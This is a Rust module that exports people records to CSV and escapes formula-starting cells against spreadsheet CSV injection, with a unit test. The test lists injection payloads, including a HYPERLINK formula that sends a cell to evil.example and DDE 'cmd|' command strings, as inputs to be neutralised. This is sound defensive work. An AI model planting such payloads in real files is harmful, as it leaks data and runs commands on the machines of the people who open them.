//! CSV (RFC 4180: a header line, CRLF line ends, fields quoted when they need it), every cell
//! through [`formula_guard`] so a spreadsheet never runs what someone else typed.

use std::borrow::Cow;

use crate::PeopleExport;
use sphere_domain::error::ApiError;

/// The header line, in order.
pub const CSV_COLUMNS: &[&str] = &[
    "id",
    "first_name",
    "last_name",
    "emails",
    "phones",
    "title",
    "organization",
    "ring",
    "tags",
    "notes",
    "facts",
];

/// Lists inside one field are joined with this.
const JOIN: &str = "; ";

/// One row per person; emails, phones and tags `; `-joined; facts as `category: value`,
/// `; `-joined (never facts only when the export was asked for them).
pub fn to_csv(export: &PeopleExport) -> Result<String, ApiError> {
    let err = |e: csv::Error| ApiError::internal(format!("cannot write the export as CSV: {e}"));
    let mut w = csv::WriterBuilder::new()
        .terminator(csv::Terminator::CRLF)
        .from_writer(Vec::new());
    w.write_record(CSV_COLUMNS).map_err(err)?;
    for p in &export.people {
        let person = &p.person;
        let facts: Vec<String> = p
            .facts
            .iter()
            .map(|f| format!("{}: {}", f.category, f.value))
            .collect();
        let id = person.id.to_string();
        let row = [
            id.as_str(),
            &person.first_name,
            &person.last_name,
            &person.emails.join(JOIN),
            &person.phones.join(JOIN),
            &person.title,
            p.organization_name.as_deref().unwrap_or(""),
            person.ring.as_str(),
            &person.tags.join(JOIN),
            &person.notes,
            &facts.join(JOIN),
        ];
        w.write_record(row.map(|cell| formula_guard(cell).into_owned()))
            .map_err(err)?;
    }
    let bytes = w
        .into_inner()
        .map_err(|e| ApiError::internal(format!("cannot write the export as CSV: {e}")))?;
    String::from_utf8(bytes)
        .map_err(|e| ApiError::internal(format!("the CSV export is not UTF-8: {e}")))
}

/// What a cell starting with one of these means to a spreadsheet (Excel, LibreOffice Calc,
/// Google Sheets, Numbers): a formula (`=`, `+`, `-`, `@`), or, after the tab or carriage
/// return the program strips, possibly one. The full-width forms (＝ ＋ － ＠) are included, as
/// OWASP's testing guide lists them ("depending on locale/application behavior": Excel in East
/// Asian locales reads them as their ASCII forms); a name starting with one is rare enough that
/// the guard costs nothing real. Leading whitespace and invisible characters are looked past,
/// since spreadsheets may skip them before reading a formula.
fn is_formula_start(c: char) -> bool {
    matches!(
        c,
        '=' | '+' | '-' | '@' | '\t' | '\r' | '\u{FF1D}' | '\u{FF0B}' | '\u{FF0D}' | '\u{FF20}'
    )
}

/// A cell as a spreadsheet may safely read it (OWASP's advice for CSV injection): a cell whose
/// first visible character starts a formula gets a leading `'`, which spreadsheets read as
/// "this is text" and do not show.
///
/// One exception keeps real data usable: a cell of digits with only `+ - ( ) . , /` and
/// spaces — a phone number (`+1 555 0100`, `-` dialling prefixes) or a negative number
/// (`-12.5`) — is left as it is. With no letter, no `!`, `:`, `"` or `|` it can name no
/// cell, function, other sheet or program: the worst a spreadsheet can do is arithmetic on
/// it, and it stays exactly what Sphere stores for any other reader.
pub fn formula_guard(cell: &str) -> Cow<'_, str> {
    let visible = cell.trim_start_matches(|c: char| {
        c != '\t' && c != '\r' && sphere_domain::validate::is_invisible(c)
    });
    match visible.chars().next() {
        Some(c) if is_formula_start(c) && !plain_number(visible) => Cow::Owned(format!("'{cell}")),
        _ => Cow::Borrowed(cell),
    }
}

/// Digits, spaces and `+ - ( ) . , /` only, with at least one digit.
fn plain_number(s: &str) -> bool {
    s.chars().any(|c| c.is_ascii_digit())
        && s.chars()
            .all(|c| c.is_ascii_digit() || " +-().,/".contains(c))
}

#[cfg(test)]
mod tests {
    use super::formula_guard;

    #[test]
    fn formulas_are_made_text_and_numbers_stay_usable() {
        for (cell, out) in [
            // Formulas and what spreadsheets read as them: neutralised with a leading quote.
            (
                "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
                "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
            ),
            ("=1+1", "'=1+1"),
            ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
            ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
            ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
            ("\t=1+1", "'\t=1+1"),
            ("\r=1+1", "'\r=1+1"),
            ("\u{200B}=1+1", "'\u{200B}=1+1"),
            (" =HYPERLINK(\"x\")", "' =HYPERLINK(\"x\")"),
            ("\n@SUM(A1)", "'\n@SUM(A1)"),
            ("＝HYPERLINK(\"x\")", "'＝HYPERLINK(\"x\")"),
            ("＠SUM(A1)", "'＠SUM(A1)"),
            ("+1 555 0100 x12", "'+1 555 0100 x12"),
            ("=1", "'=1"),
            ("-", "'-"),
            // Real data that starts with + or - and cannot name anything: untouched.
            ("+1 555 0100", "+1 555 0100"),
            ("+44 (0)20 7946 0000", "+44 (0)20 7946 0000"),
            ("-12.5", "-12.5"),
            ("-1,000", "-1,000"),
            // Everything else: untouched.
            ("Ada", "Ada"),
            ("a=b", "a=b"),
            ("ada@example.com", "ada@example.com"),
            ("", ""),
            ("'quoted", "'quoted"),
        ] {
            assert_eq!(formula_guard(cell), out, "{cell:?}");
        }
    }
}
